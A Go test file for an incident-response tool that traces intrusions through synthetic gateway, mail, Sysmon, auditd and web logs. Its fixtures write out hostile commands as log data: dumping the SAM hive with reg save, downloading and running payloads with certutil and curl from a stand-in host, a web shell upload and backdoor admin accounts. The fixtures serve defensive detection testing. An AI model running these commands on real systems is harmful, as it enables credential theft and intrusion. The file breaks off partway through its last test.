package accuracy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/contrail-ir/contrail/evidence"
	"github.com/contrail-ir/contrail/sweep"
	"github.com/contrail-ir/contrail/trail"
)

// The way in where only gateways, servers and mail logs hold it, on evidence as real products write it, read by the real readers.

// lay writes files and gives their folder.
func lay(t testing.TB, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, text := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// follow traces a folder from starts with the rules that come with Contrail.
func follow(t testing.TB, root string, starts ...string) *trail.Trail {
	t.Helper()
	return followSaid(t, root, "", starts...)
}

// followSaid is follow with what a sources.yaml says of the evidence.
func followSaid(t testing.TB, root, said string, starts ...string) *trail.Trail {
	t.Helper()
	var sources *evidence.Sources
	if said != "" {
		var err error
		if sources, err = evidence.ReadSources(strings.NewReader(said), evidence.Formats()); err != nil {
			t.Fatal(err)
		}
	}
	g, err := trail.NewGraph(trail.Options{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	var c collected
	q := sweep.Question{Roots: []evidence.Root{{Org: "a", Path: root}}, Formats: evidence.Formats(), Rules: shipped(), Sources: sources, TempDir: t.TempDir(), Tap: tap{g}, Threads: 2, NoEvent: true}
	if err := sweep.Run(context.Background(), q, &c, nil); err != nil {
		t.Fatal(err)
	}
	var from []trail.Start
	for _, s := range starts {
		one, err := trail.ParseStart(s)
		if err != nil {
			t.Fatal(err)
		}
		from = append(from, one)
	}
	out, err := trail.Trace(g, trail.Question{Org: "a", From: from, Findings: c.findings, Coverage: c.result.Certificate})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// touched gives the records that the walk took, whatever the verdict, as FILE:RECORD.
func touched(out *trail.Trail) (all []string) {
	for _, e := range out.Edges {
		for _, r := range e.Refs {
			if r.Role != trail.Context {
				all = append(all, fmt.Sprintf("%s:%d", r.File, r.Record))
			}
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// checkTouched says which records are missing, and which are there and should not be.
func checkTouched(t *testing.T, out *trail.Trail, want, not []string) {
	t.Helper()
	got := touched(out)
	for _, w := range want {
		if !slices.Contains(got, w) {
			t.Errorf("%s was not reached: %v", w, got)
		}
	}
	for _, w := range not {
		if slices.Contains(got, w) {
			t.Errorf("%s was reached", w)
		}
	}
}

// sessionOnServer is a logon to a server from the address that each gateway below gave to 203.0.113.9, and one from the same address a day later, when
// somebody else has it.
const sessionOnServer = `2026-03-16T08:20:00+00:00 res1 sshd[900]: Accepted password for root from 10.9.0.7 port 50122 ssh2
2026-03-17T09:20:00+00:00 res1 sshd[990]: Accepted password for alice from 10.9.0.7 port 40122 ssh2
`

// TestAnAssignedAddressLeadsToTheRemoteSession: whichever product logs remote access.
func TestAnAssignedAddressLeadsToTheRemoteSession(t *testing.T) {
	detail := func(at, kind, user, from, session string) string {
		return at + "\n\tUser-Name = \"" + user + "\"\n\tAcct-Status-Type = " + kind + "\n\tAcct-Session-Id = \"" + session + "\"\n\tCalling-Station-Id = \"" + from + "\"\n\tFramed-IP-Address = 10.9.0.7\n\tNAS-IP-Address = 10.0.0.1\n\tAcct-Session-Time = 3600\n\n"
	}
	palo := func(at, event, user, from string) string {
		return "1," + at + ",0009,GLOBALPROTECT,0,2305," + at + ",vsys1," + event + ",connected,LDAP,IPSec,corp\\" + user + ",US,PC1," + from + ",0.0.0.0,10.9.0.7,0.0.0.0,hid,sn,6.0,Windows,10,1,,,,success,,0,user-logon,0,gw1,1,0x0\n"
	}
	forti := func(at, action, user, from, id string) string {
		day, clock, _ := strings.Cut(at, " ")
		return fmt.Sprintf("date=%s time=%s devname=\"gw1\" devid=\"FG1\" logid=\"0101039424\" type=\"event\" subtype=\"vpn\" level=\"information\" action=%q tunneltype=\"ssl-tunnel\" tunnelid=%s remip=%s tunnelip=10.9.0.7 user=%q\n", day, clock, action, id, from, user)
	}
	for name, x := range map[string]struct {
		files     map[string]string
		want, not []string
	}{
		"Cisco ASA": {map[string]string{"gw/asa.log": "2026-03-16T08:00:00+00:00 gw1 %ASA-4-722051: Group <staff> User <svc-x> IP <203.0.113.9> IPv4 Address <10.9.0.7> IPv6 address <::> assigned to session\n" +
			"2026-03-16T09:00:00+00:00 gw1 %ASA-4-113019: Group = staff, Username = svc-x, IP = 203.0.113.9, Session disconnected. Session Type: SSL, Duration: 1h:00m:00s, Bytes xmt: 100, Bytes rcv: 200, Reason: User Requested\n" +
			"2026-03-17T09:00:00+00:00 gw1 %ASA-4-722051: Group <staff> User <alice> IP <198.51.100.4> IPv4 Address <10.9.0.7> IPv6 address <::> assigned to session\n"},
			[]string{"gw/asa.log:1", "gw/asa.log:2"}, []string{"gw/asa.log:3"}},
		"FortiGate": {map[string]string{"gw/forti.log": forti("2026-03-16 08:00:00", "tunnel-up", "svc-x", "203.0.113.9", "11") + forti("2026-03-16 09:00:00", "tunnel-down", "svc-x", "203.0.113.9", "11") +
			forti("2026-03-17 09:00:00", "tunnel-up", "alice", "198.51.100.4", "12")}, []string{"gw/forti.log:1", "gw/forti.log:2"}, []string{"gw/forti.log:3"}},
		"GlobalProtect": {map[string]string{"gw/palo.csv": palo("2026/03/16 08:00:00", "gateway-connected", "svc-x", "203.0.113.9") + palo("2026/03/16 09:00:00", "gateway-logout", "svc-x", "203.0.113.9") +
			palo("2026/03/17 09:00:00", "gateway-connected", "alice", "198.51.100.4")}, []string{"gw/palo.csv:1", "gw/palo.csv:2"}, []string{"gw/palo.csv:3"}},
		"RADIUS accounting": {map[string]string{"radius/detail": detail("Mon Mar 16 08:00:00 2026", "Start", "svc-x", "203.0.113.9", "a1") + detail("Mon Mar 16 09:00:00 2026", "Stop", "svc-x", "203.0.113.9", "a1") +
			detail("Tue Mar 17 09:00:00 2026", "Start", "alice", "198.51.100.4", "a2")}, []string{"radius/detail:1", "radius/detail:10"}, []string{"radius/detail:19"}},
		"RADIUS, the start was lost": {map[string]string{"radius/detail": detail("Mon Mar 16 09:00:00 2026", "Stop", "svc-x", "203.0.113.9", "a1") + detail("Tue Mar 17 09:00:00 2026", "Start", "alice", "198.51.100.4", "a2")},
			[]string{"radius/detail:1"}, []string{"radius/detail:10"}},
		"RADIUS table": {map[string]string{"radius/acct.csv": "Date,Time,User-Name,Calling-Station-Id,Framed-IP-Address,Acct-Session-Id,Acct-Status-Type,NAS-IP-Address\n" +
			"03/16/2026,08:00:00,svc-x,203.0.113.9,10.9.0.7,a1,Start,10.0.0.1\n03/16/2026,09:00:00,svc-x,203.0.113.9,10.9.0.7,a1,Stop,10.0.0.1\n03/17/2026,09:00:00,alice,198.51.100.4,10.9.0.7,a2,Start,10.0.0.1\n"},
			[]string{"radius/acct.csv:2", "radius/acct.csv:3"}, []string{"radius/acct.csv:4"}},
		"OpenVPN": {map[string]string{"gw/ovpn.log": "2026-03-16T08:00:00+00:00 gw1 openvpn[33]: 203.0.113.9:51234 [svc-x] Peer Connection Initiated with [AF_INET]203.0.113.9:51234\n" +
			"2026-03-16T08:00:01+00:00 gw1 openvpn[33]: svc-x/203.0.113.9:51234 MULTI: Learn: 10.9.0.7 -> svc-x/203.0.113.9:51234\n" +
			"2026-03-16T09:00:00+00:00 gw1 openvpn[33]: svc-x/203.0.113.9:51234 SIGTERM[soft,remote-exit] received, client-instance exiting\n" +
			"2026-03-17T09:00:00+00:00 gw1 openvpn[33]: alice/198.51.100.4:40000 MULTI: Learn: 10.9.0.7 -> alice/198.51.100.4:40000\n"}, []string{"gw/ovpn.log:2", "gw/ovpn.log:3"}, []string{"gw/ovpn.log:4"}},
		"strongSwan": {map[string]string{"gw/charon.log": "2026-03-16T08:00:00+00:00 gw1 charon: 07[IKE] <ra|3> IKE_SA ra[3] established between 198.51.100.1[gw]...203.0.113.9[svc-x]\n" +
			"2026-03-16T08:00:01+00:00 gw1 charon: 07[IKE] <ra|3> assigning virtual IP 10.9.0.7 to peer 'svc-x'\n" +
			"2026-03-17T09:00:01+00:00 gw1 charon: 07[IKE] <ra|4> assigning virtual IP 10.9.0.7 to peer 'alice'\n"}, []string{"gw/charon.log:1", "gw/charon.log:2"}, []string{"gw/charon.log:3"}},
		"NetScaler": {map[string]string{"gw/ns.log": "Mar 16 08:00:00 <local0.info> 10.0.0.9 03/16/2026:08:00:00 GMT gw1 0-PPE-0 : default SSLVPN LOGIN 11590 0 : Context svc-x@203.0.113.9 - SessionId: 15 - User svc-x - Client_ip 203.0.113.9 - Nat_ip 10.9.0.7 - Vserver 198.51.100.1:443 - SSLVPN_client_type Agent\n" +
			"Mar 16 09:00:00 <local0.info> 10.0.0.9 03/16/2026:09:00:00 GMT gw1 0-PPE-0 : default SSLVPN LOGOUT 11690 0 : Context svc-x@203.0.113.9 - SessionId: 15 - User svc-x - Client_ip 203.0.113.9 - Nat_ip 10.9.0.7 - Vserver 198.51.100.1:443 - Duration 01:00:00 - Total_bytes_send 5\n" +
			"Mar 17 09:00:00 <local0.info> 10.0.0.9 03/17/2026:09:00:00 GMT gw1 0-PPE-0 : default SSLVPN LOGIN 11790 0 : Context alice@198.51.100.4 - SessionId: 17 - User alice - Client_ip 198.51.100.4 - Nat_ip 10.9.0.7 - Vserver 198.51.100.1:443 - SSLVPN_client_type Agent\n"},
			[]string{"gw/ns.log:1", "gw/ns.log:2"}, []string{"gw/ns.log:3"}},
		"Pulse Connect Secure": {map[string]string{"gw/pulse.log": "2026-03-16T07:59:58Z gw1 PulseSecure: 2026-03-16 07:59:58 - ive - [203.0.113.9] Default Network::svc-x(Users)[Staff] - Login succeeded for svc-x/Users (session:0a1b) from 203.0.113.9 with Mozilla/5.0.\n" +
			"2026-03-16T08:00:00Z gw1 PulseSecure: 2026-03-16 08:00:00 - ive - [203.0.113.9] Default Network::svc-x(Users)[Staff] - VPN Tunneling: Session started for user with IPv4 address 10.9.0.7, hostname PC1\n" +
			"2026-03-16T09:00:00Z gw1 PulseSecure: 2026-03-16 09:00:00 - ive - [203.0.113.9] Default Network::svc-x(Users)[Staff] - VPN Tunneling: Session ended for user with IPv4 address 10.9.0.7\n" +
			"2026-03-17T09:00:00Z gw1 PulseSecure: 2026-03-17 09:00:00 - ive - [198.51.100.4] Default Network::alice(Users)[Staff] - VPN Tunneling: Session started for user with IPv4 address 10.9.0.7, hostname PC2\n"},
			[]string{"gw/pulse.log:2", "gw/pulse.log:1", "gw/pulse.log:3"}, []string{"gw/pulse.log:4"}},
		"a table of no known product": {map[string]string{"gw/export.csv": "time,username,client_ip,assigned_ip,action,session_id\n2026-03-16T08:00:00Z,svc-x,203.0.113.9,10.9.0.7,connected,77\n2026-03-16T09:00:00Z,svc-x,203.0.113.9,10.9.0.7,disconnected,77\n2026-03-17T09:00:00Z,alice,198.51.100.4,10.9.0.7,connected,78\n"},
			[]string{"gw/export.csv:2", "gw/export.csv:3"}, []string{"gw/export.csv:4"}},
	} {
		t.Run(name, func(t *testing.T) {
			x.files["res1/auth.log"] = sessionOnServer
			out := follow(t, lay(t, x.files), "res1/auth.log:1")
			checkTouched(t, out, append(x.want, "res1/auth.log:1"), append(x.not, "res1/auth.log:2"))
			if !slices.ContainsFunc(out.Nodes, func(n trail.NodeView) bool { return n.Kind == "address" && n.Label == "203.0.113.9" }) {
				t.Error("where the session came from is missing")
			}
			// And from the gateway's side: what was done from the address within.
			checkTouched(t, follow(t, lay(t, x.files), x.want[0]), []string{"res1/auth.log:1"}, append(x.not, "res1/auth.log:2"))
		})
	}
}

// TestDevicesThatBreakAreEntered: a crash that names nobody, an account that is made, and the session that uses it, on several products.
func TestDevicesThatBreakAreEntered(t *testing.T) {
	for name, x := range map[string]struct {
		files     map[string]string
		start     string
		want, not []string
	}{
		"FortiGate": {map[string]string{"gw/forti.log": `date=2026-03-16 time=07:50:00 devname="gw1" devid="FG1" logid="0100032546" type="event" subtype="system" level="warning" logdesc="Application crashed" action="crash" msg="Pid: 2855, application: sslvpnd, Signal 11 received"
date=2026-03-10 time=07:55:00 devname="gw1" devid="FG1" logid="0100032546" type="event" subtype="system" level="warning" logdesc="Application crashed" action="crash" msg="Pid: 1, application: wad, Signal 6 received"
date=2026-03-16 time=07:55:00 devname="gw1" devid="FG1" logid="0100044547" type="event" subtype="system" level="information" logdesc="Object attribute configured" user="Local_Process_Access" ui="jsconsole" action="Add" cfgpath="user.local" cfgobj="svc-x" msg="Add user.local svc-x"
date=2026-03-16 time=08:00:00 devname="gw1" devid="FG1" logid="0101039424" type="event" subtype="vpn" level="information" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=11 remip=203.0.113.9 tunnelip=10.9.0.7 user="svc-x"
date=2026-03-01 time=08:00:00 devname="gw1" devid="FG1" logid="0100044547" type="event" subtype="system" level="information" user="boss" ui="https(10.0.0.5)" action="Add" cfgpath="user.local" cfgobj="newcomer" msg="Add user.local newcomer"
`}, "res1/auth.log:1", []string{"gw/forti.log:1", "gw/forti.log:3", "gw/forti.log:4"}, []string{"gw/forti.log:2", "gw/forti.log:5"}},
		"Cisco ASA": {map[string]string{"gw/asa.log": `2026-03-16T07:55:00+00:00 gw1 %ASA-5-111008: User 'enable_15' executed the 'username svc-x password ***** privilege 15' command.
2026-03-16T07:55:01+00:00 gw1 %ASA-5-111010: User 'enable_15', running 'CLI' from IP 203.0.113.9, executed 'username svc-x password ***** privilege 15'
2026-03-16T08:00:00+00:00 gw1 %ASA-4-722051: Group <staff> User <svc-x> IP <203.0.113.9> IPv4 Address <10.9.0.7> IPv6 address <::> assigned to session
`}, "res1/auth.log:1", []string{"gw/asa.log:1", "gw/asa.log:2", "gw/asa.log:3"}, nil},
		"Cisco IOS XE": {map[string]string{"gw/ios.log": `2026-03-16T07:55:00+00:00 rtr1 %SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as user on vty0
2026-03-16T07:55:02+00:00 rtr1 %PARSER-5-CFGLOG_LOGGEDCMD: User:unknown user  logged command:username cisco_sup privilege 15 secret *
2026-03-16T07:56:00+00:00 rtr1 %SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_sup] [Source: 203.0.113.9] [localport: 443] at 07:56:00 UTC Mon Mar 16 2026
2026-03-16T07:57:00+00:00 rtr1 %SYS-5-CONFIG_I: Configured from console by cisco_sup on vty1 (203.0.113.9)
`}, "gw/ios.log:4", []string{"gw/ios.log:2", "gw/ios.log:3"}, nil},
		"Palo Alto": {map[string]string{"gw/palo.csv": "1,2026/03/16 07:55:00,0009,CONFIG,0,2305,2026/03/16 07:55:00,203.0.113.9,,set,panadmin,Web,Succeeded,mgt-config users svc-x,,,1,0x0\n" +
			"1,2026/03/16 08:00:00,0009,GLOBALPROTECT,0,2305,2026/03/16 08:00:00,vsys1,gateway-connected,connected,LDAP,IPSec,svc-x,US,PC1,203.0.113.9,0.0.0.0,10.9.0.7,0.0.0.0,hid,sn,6.0,Windows,10,1,,,,success,,0,user-logon,0,gw1,1,0x0\n"},
			"res1/auth.log:1", []string{"gw/palo.csv:1", "gw/palo.csv:2"}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			x.files["res1/auth.log"] = sessionOnServer
			checkTouched(t, follow(t, lay(t, x.files), x.start), x.want, append(x.not, "res1/auth.log:2"))
		})
	}
}

// TestFindingsAtTheWayInAndAfterItAreOneIntrusion: one rule finds the account that was made on a gateway, others what was done on a server from its tunnel.
// The walks meet at the address that the gateway gave, which passes each of them only while it was given.
func TestFindingsAtTheWayInAndAfterItAreOneIntrusion(t *testing.T) {
	security := func(id int, at string, data ...string) string {
		pairs := map[string]string{}
		for i := 0; i+1 < len(data); i += 2 {
			pairs[data[i]] = data[i+1]
		}
		text, err := json.Marshal(map[string]any{"@timestamp": "2026-03-16T" + at + "Z", "winlog": map[string]any{"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "event_id": id,
			"record_id": 100, "computer_name": "res1.air.example", "event_data": pairs}})
		if err != nil {
			t.Fatal(err)
		}
		return string(text) + "\n"
	}
	runs := func(at, pid, parent, image, command string) string {
		return security(4688, at, "SubjectLogonId", "0x5abc", "SubjectUserName", "adm", "NewProcessId", pid, "NewProcessName", `C:\Windows\System32\`+image, "CommandLine", command, "ProcessId", parent, "ParentProcessName", `C:\Windows\explorer.exe`)
	}
	out := follow(t, lay(t, map[string]string{
		"gw/forti.log": `date=2026-03-16 time=07:55:00 devname="gw1" devid="FG1" logid="0100044547" type="event" subtype="system" level="information" logdesc="Object attribute configured" user="svc-x" ui="jsconsole" remip=203.0.113.9 action="Add" cfgpath="user.local" cfgobj="svc-x" msg="Add user.local svc-x"
date=2026-03-16 time=08:00:00 devname="gw1" devid="FG1" logid="0101039424" type="event" subtype="vpn" level="information" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=11 remip=203.0.113.9 tunnelip=10.9.0.7 user="svc-x"
`,
		"res1/security.json": security(4624, "08:20:00", "TargetLogonId", "0x5abc", "TargetUserName", "adm", "LogonType", "10", "IpAddress", "10.9.0.7", "IpPort", "50122", "WorkstationName", "-") +
			runs("08:21:00", "0x600", "0x500", "reg.exe", `reg save hklm\sam C:\ProgramData\s.hiv`) +
			runs("08:22:00", "0x700", "0x500", "certutil.exe", `certutil -urlcache -split -f http://203.0.113.77/a C:\ProgramData\a.exe`),
	}))
	checkTouched(t, out, []string{"gw/forti.log:1", "gw/forti.log:2", "res1/security.json:1", "res1/security.json:2", "res1/security.json:3"}, nil)
	for _, s := range out.Starts {
		if !s.Established {
			t.Errorf("%s stands apart: %s", s.Start, s.Why)
		}
	}
	if !out.Established || out.Access.Host != "gw1" {
		t.Errorf("established %t, %s; way in %+v", out.Established, out.Why, out.Access)
	}
}

// documentOpened is Sysmon on the workstation of a.jones: the mail client lays a document down and Word, opening it, starts a shell.
func documentOpened(path string) string {
	event := func(id int, at string, data ...string) string {
		var b strings.Builder
		fmt.Fprintf(&b, `{"@timestamp":"2026-03-16T%sZ","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_id":%d,"record_id":%d,"computer_name":"ws7.air.example","event_data":{`, at, id, 100)
		for i := 0; i+1 < len(data); i += 2 {
			if i > 0 {
				b.WriteByte(',')
			}
			fmt.Fprintf(&b, "%q:%q", data[i], data[i+1])
		}
		return b.String() + "}}}\n"
	}
	id := func(n int) string { return fmt.Sprintf("{11111111-2222-3333-4444-%012d}", n) }
	const office = `C:\Program Files\Microsoft Office\root\Office16\`
	return event(11, "09:10:00.000", "ProcessGuid", id(1), "ProcessId", "1000", "Image", office+"OUTLOOK.EXE", "TargetFilename", path) +
		event(1, "09:10:02.000", "ProcessGuid", id(2), "ProcessId", "1100", "Image", office+"WINWORD.EXE", "CommandLine", `"`+office+`WINWORD.EXE" /n "`+path+`"`, "LogonId", "0x55", "ParentProcessGuid", id(1), "ParentProcessId", "1000", "ParentImage", office+"OUTLOOK.EXE") +
		event(1, "09:10:30.000", "ProcessGuid", id(3), "ProcessId", "1200", "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd.exe /c start C:\\ProgramData\\q\\agent.exe", "LogonId", "0x55", "ParentProcessGuid", id(2), "ParentProcessId", "1100", "ParentImage", office+"WINWORD.EXE")
}

// TestALetterIsFoundByWhatItBrought: in the logs of several mail servers, by the name of the attachment or, where none is logged, by the recipient and a
// sender who is not known otherwise.
func TestALetterIsFoundByWhatItBrought(t *testing.T) {
	const path = `C:\Users\a.jones\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\0A1B2C3D\Roster-77.docm`
	const tracking = "#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.009\r\n#Log-type: Message Tracking Log\r\n#Date: 2026-03-16T00:00:00.000Z\r\n" +
		"#Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,recipient-count,related-recipient-address,reference,message-subject,sender-address\r\n"
	line := func(at, from, to, id string) string {
		return at + ",203.0.113.20,mx.example,10.0.0.16,EXCH1,ctx,c1,SMTP,RECEIVE," + fmt.Sprint(len(id)*1000+int(id[1])) + "," + id + ",n-" + id + "," + to + ",250,100,1,,,Roster," + from + "\r\n"
	}
	var often strings.Builder
	for day := 1; day < 16; day++ {
		often.WriteString(line(fmt.Sprintf("2026-03-%02dT09:00:00.000Z", day), "news@partner.example", "a.jones@air.example", fmt.Sprintf("<%c@partner.example>", 'a'+day)))
	}
	for name, x := range map[string]struct {
		files     map[string]string
		want, not []string
	}{
		"Postfix with header checks": {map[string]string{"mx1/mail.log": `2026-03-16T08:58:00+00:00 mx1 postfix/smtpd[100]: 4ABCDEF012: client=mail.bad.example[203.0.113.20]
2026-03-16T08:58:00+00:00 mx1 postfix/cleanup[101]: 4ABCDEF012: message-id=<x1@bad.example>
2026-03-16T08:58:01+00:00 mx1 postfix/cleanup[101]: 4ABCDEF012: warning: header Content-Disposition: attachment; filename="Roster-77.docm" from mail.bad.example[203.0.113.20]; from=<fuel@bad.example> to=<a.jones@air.example> proto=ESMTP helo=<mail.bad.example>
2026-03-16T08:58:01+00:00 mx1 postfix/qmgr[102]: 4ABCDEF012: from=<fuel@bad.example>, size=90000, nrcpt=1 (queue active)
2026-03-16T08:58:02+00:00 mx1 postfix/smtp[103]: 4ABCDEF012: to=<a.jones@air.example>, relay=exch1[10.0.0.16]:25, delay=1, delays=0/0/0/1, dsn=2.0.0, status=sent (250 OK)
2026-03-16T08:59:02+00:00 mx1 postfix/smtp[103]: 4ABCDEF013: to=<a.jones@air.example>, relay=exch1[10.0.0.16]:25, delay=1, delays=0/0/0/1, dsn=2.0.0, status=sent (250 OK)
`}, []string{"mx1/mail.log:1", "mx1/mail.log:2", "mx1/mail.log:3", "mx1/mail.log:4", "mx1/mail.log:5"}, []string{"mx1/mail.log:6"}},
		"Exchange, which logs no attachments": {map[string]string{"exch1/MSGTRK.LOG": tracking + often.String() + line("2026-03-16T08:58:00.000Z", "fuel@bad.example", "a.jones@air.example", "<ax@bad.example>") + line("2026-03-16T08:59:00.000Z", "fuel@bad.example", "b.brown@air.example", "<bxx@bad.example>")},
			[]string{"exch1/MSGTRK.LOG:21"}, []string{"exch1/MSGTRK.LOG:20"}},
		"the mail client's machine only": {map[string]string{}, nil, nil},
		"Zeek": {map[string]string{"zeek/smtp.log": "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tsmtp\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmailfrom\trcptto\tmsg_id\tsubject\n#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tset[string]\tstring\tstring\n" +
			"1773651480.000000\tCabc\t203.0.113.20\t40000\t10.0.0.15\t25\tfuel@bad.example\ta.jones@air.example\t<x1@bad.example>\tRoster\n1773651490.000000\tCabd\t203.0.113.21\t40000\t10.0.0.15\t25\tnews@partner.example\ta.jones@air.example\t<x2@bad.example>\tNews\n",
			"zeek/files.log": "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tfiles\n#fields\tts\tfuid\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tsource\tmime_type\tfilename\tsha256\n#types\ttime\tstring\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tstring\n" +
				"1773651480.100000\tFabc\tCabc\t203.0.113.20\t40000\t10.0.0.15\t25\tSMTP\tapplication/msword\tRoster-77.docm\t" + strings.Repeat("a1", 32) + "\n"},
			[]string{"zeek/smtp.log:8", "zeek/files.log:8"}, []string{"zeek/smtp.log:9"}},
		"a mail gateway's table": {map[string]string{"gateway/export.csv": "time,sender,recipient,message_id,attachment,sha256\n2026-03-16T08:58:00Z,fuel@bad.example,a.jones@air.example,x1,Roster-77.docm," + strings.Repeat("a1", 32) + "\n2026-03-16T08:58:10Z,fuel2@other.example,b.brown@air.example,x3,Minutes.docx," + strings.Repeat("b1", 32) + "\n"},
			[]string{"gateway/export.csv:2"}, []string{"gateway/export.csv:3"}},
	} {
		t.Run(name, func(t *testing.T) {
			x.files["ws7/sysmon.json"] = documentOpened(path)
			out := follow(t, lay(t, x.files), "ws7/sysmon.json:3")
			checkTouched(t, out, append(x.want, "ws7/sysmon.json:3"), x.not)
		})
	}
}

// call is an event of the audit daemon.
func call(serial int, at float64, pid, ppid, uid int, exe string, more ...string) string {
	number := "59"
	if len(more) > 0 && !strings.HasPrefix(more[0], "type=EXECVE") {
		number, more = more[0], more[1:]
	}
	out := fmt.Sprintf("type=SYSCALL msg=audit(%.3f:%d): arch=c000003e syscall=%s success=yes exit=0 a0=ffffff9c a1=7f00 a2=241 a3=1b6 items=2 ppid=%d pid=%d auid=4294967295 uid=%d gid=%d ses=4294967295 comm=\"x\" exe=%q key=(null)\n", at, serial, number, ppid, pid, uid, uid, exe)
	for _, m := range more {
		kind, rest, _ := strings.Cut(m, " ")
		out += fmt.Sprintf("%s msg=audit(%.3f:%d): %s\n", kind, at, serial, rest)
	}
	return out
}

// TestLinuxAndWebLogsAlone: from a program in /tmp back to the page that was left and the requests that left it.
func TestLinuxAndWebLogsAlone(t *testing.T) {
	const base = 1773651600.0 // 2026-03-16 09:00:00 UTC
	visit := func(from string, after int, method, path string, status int) string {
		return fmt.Sprintf("%s - - [16/Mar/2026:09:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d 512 \"-\" \"Mozilla/5.0\"\n", from, after/60, after%60, method, path, status)
	}
	access := visit("198.51.100.1", 0, "GET", "/index.php", 200) + visit("198.51.100.2", 5, "GET", "/uploads/cat.png", 200) + // 1, 2
		visit("203.0.113.5", 58, "GET", "/.env", 404) + visit("203.0.113.5", 60, "POST", "/upload.php?a=1", 200) + // 3, 4
		visit("203.0.113.5", 119, "POST", "/uploads/thumb.php", 200) + visit("198.51.100.3", 125, "GET", "/index.php", 200) // 5, 6
	for i := range 40 {
		access += visit(fmt.Sprintf("198.51.100.%d", 10+i), 180+i*7, "GET", "/index.php", 200)
	}
	audit := call(1, base+60.2, 500, 1, 33, "/usr/sbin/apache2", "257", `type=CWD cwd="/var/www/html"`, `type=PATH item=0 name="/var/www/html/uploads/" nametype=PARENT`, `type=PATH item=1 name="uploads/thumb.php" nametype=CREATE`) + // lines 1-4
		call(2, base+119.5, 700, 500, 33, "/usr/bin/dash", `type=EXECVE argc=3 a0="sh" a1="-c" a2=`+fmt.Sprintf("%X", "curl -so /tmp/.k http://203.0.113.77/k")) + // 5-6
		call(3, base+119.6, 701, 700, 33, "/usr/bin/curl", `type=EXECVE argc=4 a0="curl" a1="-so" a2="/tmp/.k" a3="http://203.0.113.77/k"`) + // 7-8
		call(4, base+119.9, 701, 700, 33, "/usr/bin/curl", "257", `type=PATH item=0 name="/tmp/" nametype=PARENT`, `type=PATH item=1 name="/tmp/.k" nametype=CREATE`) + // 9-11
		call(5, base+130, 702, 700, 33, "/tmp/.k", `type=EXECVE argc=1 a0="/tmp/.k"`) + // 12-13
		call(6, base+131, 702, 700, 33, "/tmp/.k", "42", `type=SOCKADDR saddr=020001BBCB0071580000000000000000`) + // 14-15
		call(7, base+400, 800, 1, 0, "/usr/sbin/cron", "257", `type=PATH item=0 name="/var/run/crond.pid" nametype=CREATE`) + // 16-17
		call(8, base+500, 801, 800, 0, "/usr/bin/dash", `type=EXECVE argc=2 a0="sh" a1="/etc/cron.daily/logrotate"`) // 18-19
	files := map[string]string{"web1/apache2/access.log": access, "web1/audit/audit.log": audit}
	want := []string{"web1/audit/audit.log:1", "web1/audit/audit.log:5", "web1/audit/audit.log:7", "web1/audit/audit.log:9", "web1/audit/audit.log:12", "web1/audit/audit.log:14",
		"web1/apache2/access.log:3", "web1/apache2/access.log:4", "web1/apache2/access.log:5"}
	not := []string{"web1/apache2/access.log:1", "web1/apache2/access.log:2", "web1/apache2/access.log:6", "web1/audit/audit.log:16", "web1/audit/audit.log:18"}
	root := lay(t, files)
	for _, start := range []string{"web1/audit/audit.log:12", "web1/apache2/access.log:5", ""} {
		var starts []string
		if start != "" {
			starts = []string{start}
		}
		out := follow(t, root, starts...)
		t.Logf("from %q: %s; %+v; %+v", start, out.Why, out.Access, out.Unseen)
		checkTouched(t, out, want, not)
		if !out.Established || out.Access.Technique != "T1190" {
			t.Errorf("from %q: established %t, %s, way in %+v", start, out.Established, out.Why, out.Access)
		}
		for _, place := range []string{"203.0.113.5", "203.0.113.77", "203.0.113.88"} {
			if !slices.ContainsFunc(out.Infrastructure, func(p trail.Place) bool { return p.Value == place }) {
				t.Errorf("from %q: %s is missing of %+v", start, place, out.Infrastructure)
			}
		}
		if !slices.ContainsFunc(out.Unseen, func(s string) bool { return strings.Contains(s, "network") }) {
			t.Errorf("from %q: that no network log was there is not said: %v", start, out.Unseen)
		}
	}
}

// TestADeviceThatIsPassedThroughIsARelay: somebody comes to a router from outside and tells it to hand traffic on. Where he comes from, the router, and where
// the traffic goes are kept apart, also when the line of a command does not say whence it was given.
func TestADeviceThatIsPassedThroughIsARelay(t *testing.T) {
	tac := func(at, command string) string {
		return strings.Join([]string{at, "rtr1", "netops", "tty2", "203.0.113.9", "stop", "task_id=7", "service=shell", "priv-lvl=15", "cmd=" + command + " <cr>"}, "\t") + "\n"
	}
	accounting := map[string]string{"aaa/tac_plus.acct": tac("Mon Mar 16 08:01:00 2026", "interface Tunnel61") + tac("Mon Mar 16 08:01:10 2026", "tunnel destination 198.51.100.77"),
